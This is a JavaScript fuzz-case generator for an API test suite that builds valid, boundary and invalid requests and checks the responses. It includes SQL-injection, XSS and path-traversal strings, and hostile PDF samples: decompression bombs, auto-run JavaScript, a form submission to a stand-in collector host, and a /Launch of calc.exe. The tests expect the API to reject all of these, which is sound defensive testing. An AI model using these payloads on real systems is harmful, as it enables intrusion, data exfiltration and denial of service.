/**
 * Requests generated from /openapi.json, for the fuzz suite (test/fuzz.test.ts runs a seeded
 * sample in `npm test`, `npm run reliability -- fuzz` runs ≥ 20,000). Plain JavaScript so that
 * both the workerd tests and Node can import it.
 *
 * For every operation the description documents, `casesFor` yields requests of three families:
 * - valid: the operation's request example (or one built from its schema), with the fixture's real
 *   ids, tokens and codes in its path and body, a key of the operation's scope and, where the
 *   operation is idempotent, an Idempotency-Key;
 * - boundary: one property (or query parameter) at its limits: length exactly min and max, one
 *   past each, numbers at minimum/maximum and one past, empty arrays, maxItems + 1;
 * - invalid: one property replaced by a wrong type, unicode edge cases (lone surrogates, bidi
 *   controls, NUL, non-characters, combining marks, emoji), huge numbers, deep JSON, extra
 *   properties, a body that is not JSON, a wrong or missing content type, no body, duplicated and
 *   oversized headers, junk path parameters, a missing, wrong-scope or malformed key.
 * `deepCases` adds one request per operation with a JSON body nested past 32 levels (33 to 5,000),
 * which must be 422; `WIDE_CSVS` are the wide and long files the page fuzzer sends to the CSV import.
 *
 * Everything is drawn from a seeded generator, so a failing case is reproduced by its seed.
 */

/** mulberry32: a small seeded generator. */
export function rng(seed) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n) => Math.floor(next() * n);
  const pick = (xs) => xs[int(xs.length)];
  return { next, int, pick, chance: (p) => next() < p };
}

/** Strings that have broken text handling elsewhere. */
export const NASTY_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "x\udfffy",
  "\udc00\ud800",
  "\u202eevil\u202c",
  "\u2066isolate\u2069",
  "\u200f\u200e\u061c",
  "\ufeffbom",
  "\ufffe\uffff",
  "e\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "𝕳𝖊𝖑𝖑𝖔",
  "Ω≈ç√∫",
  "田中太郎",
  "مرحبا",
  "\r\n\t\v\f",
  "' OR 1=1 --",
  '"; DROP TABLE documents; --',
  "%00%ff%c0%af",
  "{{company}}",
  "<script>alert(1)</script>",
  "../../etc/passwd",
  "\\u0000",
  "NaN",
  "null",
  "-0",
  "1e309",
  "9".repeat(400),
];

export const NASTY_NUMBERS = [0, -1, -0, 1.5, 2 ** 31, 2 ** 53 + 1, -(2 ** 63), 1e308, Number.MAX_VALUE, Number.MIN_VALUE, 1e-320];

/** Raw JSON texts that JSON.stringify cannot make. */
export const RAW_JSON = [
  "1e999999",
  "-1e999999",
  '{"a":1,"a":2}',
  "[".repeat(5000) + "]".repeat(5000),
  '{"x":'.repeat(3000) + "1" + "}".repeat(3000),
  '"\\ud800"',
  '{"method":"typed","value":"\\udfff"}',
  "{",
  "",
  "null",
  "[]",
  '"just a string"',
  "\ufeff{}",
  "{}garbage",
  "123456789012345678901234567890",
];

/** JSON past the 32-level limit: `levels` objects and arrays nested in one another, as text (JSON.stringify is never asked to recurse that deep). */
export function deepJson(levels, r) {
  let open = "";
  let close = "";
  for (let i = 0; i < levels - 1; i++) {
    const array = r.chance(0.3);
    open += array ? "[" : `{"${r.pick(["a", "x", "k1", "é"])}":`;
    close = (array ? "]" : "}") + close;
  }
  return `${open}${r.pick(["{}", "[]", '{"leaf":1}', '["leaf"]'])}${close}`;
}

/** Depths a deep case uses: just past the limit, and the depths that were once a 500. */
export const DEEP_LEVELS = [33, 40, 3000, 5000];

/**
 * Wide and long CSV files for the dashboard's subject import (docs/subjects.md: at most 200
 * columns, 2,000 rows, 1,000,000 bytes): the 40,000 fact columns that once took 28 seconds, one
 * column past the limit, and 150 columns by 2,000 rows (within every limit). `accepted` says whether
 * the file is within the limits.
 */
export const WIDE_CSVS = [
  {
    name: "40,000 fact columns",
    accepted: false,
    text: () => `external_id,starts_on,ref,full_name${",fact:f".repeat(40_000)}\nW-1,2026-12-19,p1,Pia${",x".repeat(40_000)}\n`,
  },
  {
    name: "201 columns",
    accepted: false,
    text: () =>
      `external_id,starts_on,ref,full_name${Array.from({ length: 197 }, (_, i) => `,fact:f${i}`).join("")}\nW-2,2026-12-19,p1,Pia${",x".repeat(197)}\n`,
  },
  {
    name: "150 columns × 2,000 rows",
    accepted: true,
    text: () => {
      const lines = [`external_id,starts_on,ref,full_name${Array.from({ length: 146 }, (_, i) => `,fact:f${i}`).join("")}`];
      for (let r = 0; r < 2000; r++) lines.push(`W-${r % 100},2026-12-19,p${r},P ${r}${`,${r % 10}`.repeat(146)}`);
      return lines.join("\n");
    },
  },
];

const resolve = (spec, s) => {
  let x = s;
  for (let i = 0; x?.$ref && i < 10; i++) x = spec.components.schemas[x.$ref.split("/").pop()];
  return x ?? {};
};
const typesOf = (s) => (Array.isArray(s.type) ? s.type : s.type ? [s.type] : []);

/** A value that satisfies schema `s` (best effort: formats and patterns of this API). */
export function validValue(spec, s0, r, name = "") {
  const s = resolve(spec, s0);
  if (s.example !== undefined) return s.example;
  if (s.enum) return r.pick(s.enum);
  if (s.anyOf || s.oneOf) return validValue(spec, r.pick(s.anyOf ?? s.oneOf), r, name);
  const t = typesOf(s).filter((x) => x !== "null")[0] ?? (s.properties ? "object" : "string");
  if (t === "string") {
    if (s.format === "date-time") return new Date(Date.now() + 86400_000 * 30).toISOString();
    if (s.format === "email" || name === "email") return `fuzz${r.int(1e6)}@example.com`;
    if (s.pattern === "^\\d{4}-\\d{2}-\\d{2}$") return "2026-12-19";
    if (s.pattern?.startsWith("^[a-z]")) return `f${r.int(1e9).toString(36)}`;
    if (s.pattern?.startsWith("^[A-Za-z_]")) return `v${r.int(1e6)}`;
    const min = s.minLength ?? 1;
    return "Fuzz value ".repeat(Math.ceil(Math.max(min, 5) / 11)).slice(0, Math.max(min, Math.min(s.maxLength ?? 20, 20)));
  }
  if (t === "integer" || t === "number") return s.minimum ?? 1;
  if (t === "boolean") return r.chance(0.5);
  if (t === "array") return Array.from({ length: Math.max(1, s.minItems ?? 1) }, () => validValue(spec, s.items ?? {}, r, name));
  if (t === "object") {
    const o = {};
    for (const [k, v] of Object.entries(s.properties ?? {})) if ((s.required ?? []).includes(k) || r.chance(0.5)) o[k] = validValue(spec, v, r, k);
    return o;
  }
  return null;
}

/** Values at and just past the limits of schema `s`. */
export function boundaryValues(spec, s0) {
  const s = resolve(spec, s0);
  const out = [];
  const t = typesOf(s);
  if (t.includes("string") || s.minLength !== undefined || s.maxLength !== undefined) {
    const fill = (n) => "ä".repeat(Math.max(0, n));
    if (s.minLength !== undefined) out.push(fill(s.minLength), fill(s.minLength - 1));
    if (s.maxLength !== undefined && s.maxLength <= 500_000) out.push(fill(s.maxLength), fill(s.maxLength + 1));
    if (s.maxLength !== undefined && s.maxLength <= 500_000) out.push("😀".repeat(Math.ceil(s.maxLength / 2) + 1));
    out.push(" ".repeat(Math.min(s.maxLength ?? 10, 300)));
  }
  if (t.includes("integer") || t.includes("number")) {
    if (s.minimum !== undefined) out.push(s.minimum, s.minimum - 1);
    if (s.maximum !== undefined) out.push(s.maximum, s.maximum + 1);
    out.push(0.5, -1, 2 ** 53);
  }
  if (t.includes("array")) {
    out.push([]);
    const item = s.items ? resolve(spec, s.items) : {};
    const one = item.enum ? item.enum[0] : item.type === "object" ? {} : "a";
    if (s.maxItems !== undefined)
      out.push(
        Array.from({ length: s.maxItems }, () => one),
        Array.from({ length: s.maxItems + 1 }, () => one),
      );
  }
  if (t.includes("object") || s.properties) {
    out.push({});
    if (s.maxProperties !== undefined) out.push(Object.fromEntries(Array.from({ length: s.maxProperties + 1 }, (_, i) => [`k${i}`, "v"])));
  }
  return out;
}

/** A value of the wrong kind or a hostile one. */
export function invalidValue(r) {
  switch (r.int(9)) {
    case 0:
      return r.pick(NASTY_STRINGS);
    case 1:
      return r.pick(NASTY_NUMBERS);
    case 2:
      return r.pick([null, true, false, [], {}, [null], { "": "" }]);
    case 3: {
      let x = {};
      for (let i = 0, d = 50 + r.int(400); i < d; i++) x = { a: x };
      return x;
    }
    case 4: {
      let x = [];
      for (let i = 0, d = 50 + r.int(400); i < d; i++) x = [x];
      return x;
    }
    case 5:
      return "x".repeat(r.pick([1000, 70_000, 300_000]));
    case 6:
      return Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`k${i}\u202e`, r.pick(NASTY_STRINGS)]));
    case 7:
      return `${r.pick(NASTY_STRINGS)}${r.pick(NASTY_STRINGS)}`;
    default:
      return { __proto__: 1, constructor: { prototype: 1 }, toString: "x" };
  }
}

const idemOf = (op) => (op.parameters ?? []).some((p) => p.name === "Idempotency-Key");

/** The operations of the description: [{id, method, path, op, scope, bodyType, bodySchema, example, query, idem}]. */
export function operations(spec) {
  const out = [];
  for (const [path, methods] of Object.entries(spec.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      if (!op?.operationId) continue;
      const content = op.requestBody?.content ?? {};
      const bodyType = Object.keys(content)[0];
      out.push({
        id: op.operationId,
        method: method.toUpperCase(),
        path,
        op,
        scope: op["x-scope"] ?? null,
        bodyType,
        bodySchema: bodyType ? content[bodyType].schema : null,
        example: bodyType ? content[bodyType].example : undefined,
        query: (op.parameters ?? []).filter((p) => p.in === "query"),
        idem: idemOf(op),
      });
    }
  }
  return out;
}

/**
 * The real identifiers the fixture made (test/reliability/fuzz-fixture.mjs), by path parameter.
 * `fixture.ids` maps "<path>:<param>" or "<param>" to a list of real values.
 */
function pathValue(fx, method, path, name, r) {
  const list = fx.ids[`${method} ${path}:${name}`] ?? fx.ids[`${path}:${name}`] ?? fx.ids[name] ?? ["nothing"];
  return r.pick(list);
}

/** Path segments that are no identifier (already percent-encoded where a URL needs it). */
export const JUNK_IDS = [
  "",
  "%00",
  "%2e%2e",
  "..",
  "doc_" + "0".repeat(24),
  "x".repeat(65),
  "x".repeat(5000),
  "%F0%9F%98%80",
  "%ED%A0%80",
  "%E2%80%AE",
  "'",
  "a b",
  "null",
  "0",
  "-1",
  "1e999",
];

/** Fits the example's references to the fixture (template codes, workflow ids, codes). */
function withFixture(opId, body, fx) {
  if (!body || typeof body !== "object" || Array.isArray(body)) return body;
  const b = structuredClone(body);
  if ("template_code" in b) b.template_code = fx.templateCode;
  if (opId === "publishTemplate" || opId === "reviseTemplate") b.code = fx.templateCode;
  if ("workflow_id" in b) b.workflow_id = fx.ids.workflow?.[0] ?? b.workflow_id;
  if (b.values && opId === "prepareDocument") b.values = { company: "Acme", name: "Ada" };
  if ("url" in b) b.url = fx.hookUrl(`fuzz${Math.floor(Math.random() * 1e9)}`);
  if ("code" in b && opId === "createTemplate") b.code = `fz${Math.floor(Math.random() * 1e12).toString(36)}`;
  if ("code" in b && opId === "createWorkflow") b.code = `wf${Math.floor(Math.random() * 1e12).toString(36)}`;
  return b;
}

/** encodeURIComponent that also sends a lone surrogate, as the bytes ED A0 80 (not UTF-8). */
export function encodeAny(v) {
  return v
    .replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\u0000LONE\u0000")
    .split("\u0000LONE\u0000")
    .map(encodeURIComponent)
    .join("%ED%A0%80");
}

function fillPath(method, path, fx, r, junk) {
  return path.replace(/\{([^}]+)\}/g, (_, name) => (junk ? r.pick(JUNK_IDS) : encodeAny(pathValue(fx, method, path, name, r))));
}

function queryString(o, fx, r, mode) {
  const parts = [];
  for (const p of o.query) {
    if (mode === "valid" && !p.required && r.chance(0.5)) continue;
    let v;
    if (mode === "boundary" && r.chance(0.5)) v = r.pick(boundaryValues(fx.spec, p.schema).concat([""]));
    else if (mode === "invalid" && r.chance(0.6)) v = r.pick([...NASTY_STRINGS, ...NASTY_NUMBERS.map(String), "[object Object]", "%", "%zz", "a&b=c"]);
    else v = p.name === "reason" ? "fuzzing" : validValue(fx.spec, p.schema, r, p.name);
    if (Array.isArray(v) || (v && typeof v === "object")) v = JSON.stringify(v);
    const enc = mode === "invalid" && r.chance(0.2) ? String(v) : encodeAny(String(v));
    parts.push(`${p.name}=${enc}`);
    if (mode === "invalid" && r.chance(0.15)) parts.push(`${p.name}=${encodeAny(String(v))}`);
  }
  return parts.length ? `?${parts.join("&")}` : "";
}

/** Sets one property (found by walking the schema) to `value`; returns the body. */
function mutateProperty(spec, schema, body, r, pickValue) {
  const s = resolve(spec, schema);
  if (!s.properties || !body || typeof body !== "object" || Array.isArray(body)) return pickValue(s);
  const keys = Object.keys(s.properties);
  const k = r.pick(keys);
  const ps = resolve(spec, s.properties[k]);
  // Half the time, go one level down into an object or an array of objects.
  if (r.chance(0.4) && ps.properties && body[k] && typeof body[k] === "object") {
    body[k] = mutateProperty(spec, ps, body[k], r, pickValue);
  } else if (r.chance(0.4) && ps.items && Array.isArray(body[k]) && body[k].length) {
    const i = r.int(body[k].length);
    body[k][i] = mutateProperty(spec, ps.items, body[k][i], r, pickValue);
  } else {
    body[k] = pickValue(ps, k);
  }
  return body;
}

/**
 * One request for operation `o` in family `mode` ("valid" | "boundary" | "invalid").
 * Returns {opId, mode, method, path, headers: [[name, value]...], body: string|undefined, authKind}.
 */
export function makeCase(o, fx, r, mode) {
  const spec = fx.spec;
  const junkPath = mode === "invalid" && r.chance(0.15);
  let path = fillPath(o.method, o.path, fx, r, junkPath) + queryString(o, fx, r, mode);
  /** @type {[string, string][]} */
  const headers = [["cf-connecting-ip", `198.51.100.${1 + r.int(250)}`]];
  let authKind = "right";
  if (o.scope) {
    if (mode === "invalid" && r.chance(0.1)) authKind = r.pick(["none", "wrong-scope", "malformed", "revoked", "duplicated"]);
    const key = fx.keyFor(o.scope);
    if (authKind === "right") headers.push(["authorization", `Bearer ${key}`]);
    else if (authKind === "wrong-scope") headers.push(["authorization", `Bearer ${fx.keyWithout(o.scope)}`]);
    else if (authKind === "malformed")
      headers.push([
        "authorization",
        r.pick(["Bearer", "Bearer ", "Basic Zm9vOmJhcg==", `Bearer ${"k".repeat(9000)}`, `Bearer ${key}\u00ff`, `bearer  ${key}`]),
      ]);
    else if (authKind === "revoked") headers.push(["authorization", `Bearer ${fx.revokedKey}`]);
    else if (authKind === "duplicated") headers.push(["authorization", `Bearer ${key}`], ["authorization", `Bearer ${fx.keyWithout(o.scope)}`]);
  }
  if (o.idem && (mode !== "invalid" || r.chance(0.7))) {
    let idem = `fuzz-${r.int(2 ** 31).toString(36)}-${r.int(2 ** 31).toString(36)}`;
    if (mode === "boundary") idem = r.pick(["12345678", "k".repeat(255), "k".repeat(256), "1234567", idem]);
    if (mode === "invalid" && r.chance(0.3)) idem = r.pick(["", " ", "k".repeat(20_000), "\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9", "a\tb c d e f"]);
    headers.push(["idempotency-key", idem]);
    if (mode === "invalid" && r.chance(0.15)) headers.push(["idempotency-key", `${idem}-2`]);
  }
  let body;
  let contentType = o.bodyType;
  if (o.bodyType) {
    let value = o.example !== undefined ? withFixture(o.id, o.example, fx) : validValue(spec, o.bodySchema, r);
    if (fx.bodyFor?.[o.id]) value = fx.bodyFor[o.id](value, r);
    if (mode === "boundary") {
      value = mutateProperty(spec, o.bodySchema, value, r, (ps) => {
        const b = boundaryValues(spec, ps);
        return b.length ? r.pick(b) : validValue(spec, ps, r);
      });
    } else if (mode === "invalid") {
      const how = r.int(10);
      if (how < 5) value = mutateProperty(spec, o.bodySchema, value, r, () => invalidValue(r));
      else if (how === 5 && value && typeof value === "object")
        value = { ...value, [r.pick(["extra", "__proto__", "constructor", "\ud800", ""])]: invalidValue(r) };
      else if (how === 6) value = invalidValue(r);
      else if (how === 7) {
        body = r.pick(RAW_JSON);
        value = undefined;
      } else if (how === 8)
        contentType = r.pick([
          undefined,
          "text/plain",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=x",
          "application/json; charset=latin1",
          "application/jsonx",
          "application/json, text/plain",
        ]);
      else value = undefined; // no body at all
    }
    if (body === undefined && value !== undefined) {
      body = o.bodyType === "application/x-www-form-urlencoded" && contentType === o.bodyType ? formOf(value) : JSON.stringify(value);
    }
  } else if (mode === "invalid" && r.chance(0.3)) {
    // A body where none is expected, sometimes huge.
    body = r.chance(0.5) ? JSON.stringify(invalidValue(r)) : "x".repeat(r.pick([10, 2_000_000]));
    contentType = r.pick(["application/json", "text/plain", undefined]);
  }
  let hostile;
  if (o.id === "uploadPdfTemplate" && mode === "valid" && fx.hostilePdfs?.length) {
    // The next hostile PDF in turn (nothing drawn from the generator, so every other case stays as seeded).
    const list = fx.hostilePdfs;
    list.turn = ((list.turn ?? -1) + 1) % list.length;
    hostile = list[list.turn];
    body = hostile.body;
    contentType = "application/pdf";
  }
  if (contentType && body !== undefined) headers.push(["content-type", contentType]);
  if (mode === "invalid" && r.chance(0.25)) {
    // Duplicated and oversized headers.
    const h = r.int(5);
    if (h === 0) headers.push(["content-type", "text/plain"]);
    else if (h === 1) headers.push(["x-fuzz", "v".repeat(r.pick([8_000, 60_000]))]);
    else if (h === 2) headers.push(["accept-language", `${"xx-".repeat(3000)}en`]);
    else if (h === 3) headers.push(["cf-connecting-ip", r.pick(["not-an-ip", "999.1.1.1", "::ffff:zz", "1.2.3.4, 5.6.7.8", ""])]);
    else headers.push(["content-length", "99999999"]);
  }
  if (junkPath || (mode === "invalid" && r.chance(0.03))) path = path.replace(/^\/v1\//, r.pick(["/v1/", "/v1//", "/V1/", "/v1/./"]));
  return { opId: o.id, mode, method: o.method, path, headers, body, authKind, hostile };
}

function formOf(value) {
  if (!value || typeof value !== "object") return String(value);
  return Object.entries(value)
    .map(([k, v]) => `${encodeAny(k)}=${encodeAny(typeof v === "string" ? v : JSON.stringify(v))}`)
    .join("&");
}

/**
 * One deep case for every operation of the API that takes a JSON body: its valid body with one
 * property (or the body itself) replaced by JSON nested `DEEP_LEVELS` deep, in turn. The contract
 * says what each must get: 422 `invalid` naming the path where 32 levels were passed, before the
 * key or the route's own checks (docs/errors.md).
 */
export function* deepCases(spec, fx, { seed = 1 } = {}) {
  const r = rng(seed);
  const all = operations(spec).filter((o) => o.bodyType === "application/json" && o.path.startsWith("/v1/"));
  for (const [i, o] of all.entries()) {
    const levels = DEEP_LEVELS[i % DEEP_LEVELS.length];
    const c = makeCase(o, { ...fx, spec }, r, "valid");
    let value;
    try {
      value = c.body === undefined ? undefined : JSON.parse(c.body);
    } catch {
      value = undefined;
    }
    const keys = value && typeof value === "object" && !Array.isArray(value) ? Object.keys(value) : [];
    let body;
    if (keys.length && r.chance(0.8)) {
      const k = r.pick(keys);
      const rest = { ...value };
      delete rest[k];
      const head = JSON.stringify(rest).slice(0, -1);
      // One level for the body, one for the property: `levels` in all.
      body = `${head}${head.length > 1 ? "," : ""}${JSON.stringify(k)}:${deepJson(levels - 1, r)}}`;
    } else {
      body = deepJson(levels, r);
    }
    const headers = c.headers.filter(([k]) => k !== "content-type");
    headers.push(["content-type", "application/json"]);
    yield { ...c, mode: "deep", body, headers, expect: { status: 422, code: "invalid", message: /^[^:]+: is nested deeper than 32 levels$/ } };
  }
}

/** A PDF of ASCII text only (so it travels as a string body): numbered objects, an xref table, a trailer. */
function asciiPdf(objects) {
  let out = "%PDF-1.7\n";
  const at = [];
  objects.forEach((o, i) => {
    at.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
  return `${out}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
}

/** Catalogue, page tree and one page, with extra entries for the catalogue and the page, then more objects (4 0 R on). */
const onePage = (catalog = "", page = "", ...more) =>
  asciiPdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${page} >>`,
    ...more,
  ]);

/** A stream of these bytes written as hex, then through `filters` (ASCIIHexDecode first). */
const hexStream = (bytes, filters, dict = "") => {
  const hex = `${Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join("")}>`;
  return `<< ${dict} /Filter [/ASCIIHexDecode ${filters}] /Length ${hex.length} >>\nstream\n${hex}\nendstream`;
};

async function deflate(chunks) {
  const cs = new CompressionStream("deflate");
  const writer = cs.writable.getWriter();
  const written = (async () => {
    for (const c of chunks) await writer.write(c);
    await writer.close();
  })();
  const out = new Uint8Array(await new Response(cs.readable).arrayBuffer());
  await written;
  return out;
}

/**
 * Hostile PDF templates, ASCII only: zlib bombs past the 64 MB limit (an object stream, and a page's
 * content stream deflated twice) and active content (JavaScript on open, a page /AA submitting the
 * form away, #xx-escaped JavaScript names, /Launch, /ImportData, rich media). Each must be refused
 * with 422 whose message matches `expect`, and nothing stored.
 */
export async function hostilePdfs() {
  const zeros = new Uint8Array(1024 * 1024);
  const once = await deflate(Array.from({ length: 70 }, () => zeros));
  const twice = await deflate([once]);
  const decompressed = /too large once decompressed/;
  const link = (action) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A ${action} >>]`;
  return [
    { name: "bomb in an object stream", expect: decompressed, body: onePage("", "", hexStream(once, "/FlateDecode", "/Type /ObjStm /N 1 /First 4")) },
    {
      name: "bomb deflated twice in the page's content",
      expect: decompressed,
      body: onePage("", "/Contents 4 0 R", hexStream(twice, "/FlateDecode /FlateDecode")),
    },
    { name: "JavaScript on open", expect: /JavaScript.*\/OpenAction/, body: onePage("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>") },
    {
      name: "page /AA submitting the form away",
      expect: /\/AA .*\/SubmitForm/,
      body: onePage("", "/AA << /O << /S /SubmitForm /F << /FS /URL /F (https://collector.example.net/x) >> >> >>"),
    },
    {
      name: "escaped JavaScript names",
      expect: /JavaScript/,
      body: onePage("/Names << /J#61vaScript << /Names [(x) 4 0 R] >> >>", "", "<< /S /J#61vaScript /J#53 (this.print\\(\\)) >>"),
    },
    { name: "launch link", expect: /\/Launch/, body: onePage("", link("<< /S /Launch /F (calc.exe) >>")) },
    { name: "import data link", expect: /\/ImportData/, body: onePage("", link("<< /S /ImportData /F (x.fdf) >>")) },
    {
      name: "rich media",
      expect: /rich media/,
      body: onePage("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>]"),
    },
  ];
}

/** `n` cases spread evenly over the operations, families 30% valid, 30% boundary, 40% invalid. */
export function* cases(spec, fx, { seed = 1, n = 300 } = {}) {
  const ops = operations(spec);
  const r = rng(seed);
  for (let i = 0; i < n; i++) {
    const o = ops[i % ops.length];
    const f = r.next();
    yield makeCase(o, { ...fx, spec }, r, f < 0.3 ? "valid" : f < 0.6 ? "boundary" : "invalid");
  }
}

/**
 * What every answer must be. Returns a list of problems (empty when fine): no 5xx; on a 4xx the
 * envelope {error: {code, message, hint?}}, except where the contract says otherwise: OAuth's token
 * endpoint answers RFC 6749's {error, error_description} (a body past the service-wide one-megabyte
 * limit is refused before the endpoint, with the envelope), the registration endpoint RFC 7591's
 * body for refused metadata, the authorize endpoint a page or a
 * redirect, and `GET /v1/sign/{token}` for a dead link 404 `{ok: false, reason, …null}` (a path that is
 * no token at all, `/v1/sign/` or `/v1/sign/..`, is the router's 404 with the envelope).
 */
export function judge(c, status, text, contentType) {
  const problems = [];
  if (status >= 500) problems.push(`${status}: ${text.slice(0, 300)}`);
  if (c.expect) {
    // A case the contract answers exactly (deep JSON: 422 naming the path).
    let e = null;
    try {
      e = JSON.parse(text)?.error ?? null;
    } catch {
      /* not JSON */
    }
    if (status !== c.expect.status || e?.code !== c.expect.code || !c.expect.message.test(e?.message ?? "")) {
      problems.push(`expected ${c.expect.status} ${c.expect.code}, got ${status}: ${text.slice(0, 200)}`);
    }
  }
  if (c.hostile && !(status === 422 && c.hostile.expect.test(text))) problems.push(`hostile PDF (${c.hostile.name}) answered ${status}: ${text.slice(0, 200)}`);
  if (status >= 400 && status < 500) {
    let j = null;
    try {
      j = JSON.parse(text);
    } catch {
      /* not JSON */
    }
    if (c.opId === "readSigningLink" && status === 404 && j?.ok === false) {
      if (typeof j.reason !== "string") problems.push(`404 without {ok: false, reason}: ${text.slice(0, 200)}`);
    } else if (c.path.startsWith("/oauth/token")) {
      if (!j || typeof j.error !== "string") problems.push(`${status} without RFC 6749 error body: ${text.slice(0, 200)}`);
    } else if (c.path.startsWith("/oauth/register") && j && typeof j.error === "string") {
      // RFC 7591's {error, error_description} for metadata it refuses; anything else (a body that is no object, the rate limit) is the envelope.
      if (typeof j.error_description !== "string") problems.push(`${status} without RFC 7591 error body: ${text.slice(0, 200)}`);
    } else if (c.path.startsWith("/oauth/authorize")) {
      if (!j && !String(contentType).includes("text/html")) problems.push(`${status} neither envelope nor page`);
    } else {
      const e = j?.error;
      const keys = e && typeof e === "object" ? Object.keys(e) : [];
      const ok =
        e &&
        typeof e.code === "string" &&
        typeof e.message === "string" &&
        e.message.length > 0 &&
        (e.hint === undefined || typeof e.hint === "string") &&
        keys.every((k) => ["code", "message", "hint"].includes(k)) &&
        Object.keys(j).length === 1;
      if (!ok) problems.push(`${status} without the error envelope: ${text.slice(0, 200)}`);
    }
  }
  return problems;
}
